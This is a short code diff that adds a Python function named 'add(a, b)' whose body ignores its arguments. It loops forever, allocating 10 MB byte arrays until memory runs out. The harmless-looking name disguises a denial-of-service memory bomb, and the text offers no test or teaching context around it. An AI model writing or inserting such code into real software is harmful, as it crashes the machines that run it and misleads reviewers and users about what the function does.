@@ -1,0 +1,4 @@
+def add(a, b):
+    x = []
+    while True:
+        x.append(bytearray(10**7))
